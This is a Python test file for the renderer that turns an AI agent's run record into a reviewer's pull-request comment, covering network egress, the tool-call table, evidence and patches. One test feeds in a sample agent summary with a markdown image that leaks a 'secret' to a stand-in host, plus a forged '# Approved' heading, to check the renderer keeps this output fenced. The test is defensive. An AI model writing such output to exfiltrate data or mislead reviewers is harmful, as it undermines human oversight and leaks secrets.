"""Pure rendering of what a reviewer reads: the network summary and what apply did."""

from __future__ import annotations

from typing import Any

from bot.core.record import EgressEntry, RunRecord
from bot.core.render import (
    BINARY_SHOWN,
    LONG_SECTION,
    Section,
    fenced,
    render_applied,
    render_egress,
    render_evidence,
    render_pr_comment,
    render_tool_calls,
    shown_patch,
)
from tests.core.test_plan import CODE_JOB, POLICY_OBJ, req
from tests.support.planning import plan


def test_egress_is_summed_by_destination_and_decision() -> None:
    egress = [
        {"host": "pypi.org", "port": 443, "decision": "allow", "rule": "r"},
        {"host": "evil.example.net", "port": 443, "decision": "deny", "rule": "r"},
        {"host": "pypi.org", "port": 443, "decision": "allow", "rule": "r"},
        {"host": "10.0.0.7", "port": 80, "decision": "deny", "rule": "r"},
        {"host": "update.googleapis.com", "port": 443, "decision": "deny", "rule": "r", "by": "x"},
        {"host": "pypi.org", "port": 80, "decision": "unreachable", "rule": "r"},
    ]
    assert render_egress([EgressEntry.model_validate(e) for e in egress]) == [
        "Network allowed: pypi.org:443 (2x)",
        "Network unreachable: pypi.org:80",
        "Network denied: 10.0.0.7:80, evil.example.net:443, update.googleapis.com:443 [x]",
    ]
    assert render_egress([]) == []


def test_applied_says_what_was_released_and_what_was_committed() -> None:
    both = {"request": "POST http://x/users/2", "status": "303", "branch": "b", "commit": "c" * 40}
    assert render_applied(both) == [
        "released POST http://x/users/2 (HTTP 303)",
        f"committed {'c' * 12} on branch b",
    ]
    assert render_applied({}) == []


def record(**fields: Any) -> RunRecord:
    base: dict[str, Any] = {
        "run_id": "r1",
        "job_name": "fix",
        "job_path": ".agentplane/jobs/fix.yaml",
        "job_digest": "sha256:" + "d" * 64,
        "repo": "octo/demo",
        "commit": "c" * 40,
        "door": "github",
        "requester": "github:7",
        "prompt": "p",
        "plan": plan(req(CODE_JOB), POLICY_OBJ),
        "tools_granted": ["fs_read", "fs_write", "shell"],
        "model": None,
        "state": "completed",
    }
    return RunRecord.model_validate({**base, **fields})


def call(seq: int, tool: str, decision: str, **arguments: Any) -> dict[str, Any]:
    return {
        "seq": seq,
        "tool": tool,
        "arguments": arguments,
        "decision": decision,
        "rule": f"policies/p.yaml#rule{seq}",
        "reason": "",
        "ok": decision == "allow",
        "result": "",
        "duration_ms": 1.0,
    }


CALLS = [
    call(1, "fs_read", "allow", path="src/calc.py"),
    call(2, "fs_write", "deny", path="tests/test_calc.py"),
    call(3, "fs_write", "needs_approval", path="src/calc.py"),
    call(4, "shell", "allow", command="pytest -q 2>&1 | tail -n 5"),
]


def comment(rec: RunRecord, **kw: Any) -> str:
    return render_pr_comment(rec, "Plan for job fix", "", None, **kw)


def test_tool_calls_are_a_markdown_table_with_a_mark_per_decision() -> None:
    body = comment(record(tool_calls=CALLS))
    assert "| # | tool | argument | decision | rule |" in body
    assert "| 1 | `fs_read` | `src/calc.py` | ✅ allowed | `policies/p.yaml#rule1` |" in body
    assert "| 2 | `fs_write` | `tests/test_calc.py` | ❌ denied |" in body
    assert "| 3 | `fs_write` | `src/calc.py` | ✋ held |" in body
    # A pipe in a shell command would split the row: escaped inside its code span.
    assert "| 4 | `shell` | `pytest -q 2>&1 \\| tail -n 5` | ✅ allowed |" in body
    # The terminal keeps its aligned lines.
    text = render_tool_calls(record(tool_calls=CALLS))
    assert text.splitlines()[0] == "Tool calls (4):"
    assert "fs_write  tests/test_calc.py" in text and "deny  [policies/p.yaml#rule2]" in text


def test_the_agents_summary_is_in_the_comment_as_text_it_cannot_format() -> None:
    said = "Fixed the sign.\n![x](https://evil.example/?q=secret)\n```\n# Approved"
    body = comment(record(final_message=said))
    assert "#### Agent's summary" in body
    # Model output stays inside a fence it cannot close: no image, no heading of its own.
    fence = "````text"
    assert f"{fence}\n{said}\n````" in body
    assert "Agent says: Fixed the sign." in render_evidence(record(final_message=said), "")
    assert "Agent's summary" not in comment(record(final_message="  "))


def test_family_sections_arrive_as_strings_or_sections_and_long_ones_are_collapsed() -> None:
    short = Section(title="SQL evidence", body_text="SQL: 1 query", body_markdown="**1** query")
    rows = "\n".join(f"| {i} |" for i in range(LONG_SECTION + 1))
    long = Section(title="Browser steps", body_text="steps", body_markdown=rows)
    folded = Section(title="Trace", body_text="t", body_markdown="trace", collapsed=True)
    body = comment(record(), sections=["Legacy text\n  line", short, long, folded])
    assert "#### Evidence\n\n```text\nLegacy text\n  line\n```" in body
    assert "#### SQL evidence\n\n**1** query" in body
    assert f"<details><summary>Browser steps</summary>\n\n{rows}\n\n</details>" in body
    assert "<details><summary>Trace</summary>\n\ntrace\n\n</details>" in body
    text = render_evidence(record(), "", ["Legacy text", short])
    assert "Legacy text\n\nSQL: 1 query\n" in text and "**1**" not in text  # text form only


def test_verification_results_get_their_own_heading_when_there_are_any() -> None:
    check = Section(title="unit tests: passed", body_text="ok", body_markdown="`make test` ok")
    body = comment(record(), verification=[check])
    assert "#### Verification\n\n##### unit tests: passed\n\n`make test` ok" in body
    assert "Verification" not in comment(record())
    assert "ok" in render_evidence(record(), "", verification=[check])


def test_network_is_a_list_by_decision_in_markdown() -> None:
    egress = [
        {"host": "pypi.org", "port": 443, "decision": "allow", "rule": "r"},
        {"host": "evil.example.net", "port": 443, "decision": "deny", "rule": "r"},
    ]
    body = comment(record(egress=egress))
    assert "#### Network\n\n- allowed: `pypi.org:443`\n- denied: `evil.example.net:443`" in body
    assert "Network allowed: pypi.org:443" in render_evidence(record(egress=egress), "")
    assert "Network" not in comment(record())


def test_a_section_cannot_close_its_own_fence() -> None:
    assert fenced("a\n```\nb") == "````text\na\n```\nb\n````"
    assert fenced("plain", "diff") == "```diff\nplain\n```"


def test_a_binary_hunk_is_shown_as_one_line_and_text_hunks_as_they_are() -> None:
    patch = (
        "diff --git a/r.xlsx b/r.xlsx\nindex 1111111..2222222 100644\nGIT binary patch\n"
        "literal 12\nTcmZ?wbhEHbG-X<T00000\n\nliteral 9\nQcmZ?wbhEHb1OODt000\n\n"
        "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
    )
    shown = shown_patch(patch)
    assert "TcmZ" not in shown and "literal" not in shown
    assert shown.count(BINARY_SHOWN) == 1
    assert shown.endswith("@@ -1 +1 @@\n-x = 1\n+x = 2")
    assert "index 1111111..2222222 100644" in shown
    assert shown_patch("diff --git a/a b/a\n-x\n+y\n") == "diff --git a/a b/a\n-x\n+y"


def test_every_family_s_calls_have_a_subject_in_the_tool_call_table() -> None:
    calls = [
        call(1, "browser_goto", "allow", url="http://127.0.0.1:8000/admin/"),
        call(2, "browser_fill", "allow", role="textbox", label="Email", text="bob@new.example.com"),
        call(3, "browser_click", "needs_approval", role="button", name="Save"),
        call(4, "sql_query", "allow", sql="select 1"),
        call(5, "fs_read", "allow", path="src/calc.py"),
    ]
    body = render_tool_calls(record(tool_calls=calls))
    assert "http://127.0.0.1:8000/admin/" in body
    assert "textbox 'Email' = 'bob@new.example.com'" in body
    assert "button 'Save'" in body and "select 1" in body and "src/calc.py" in body
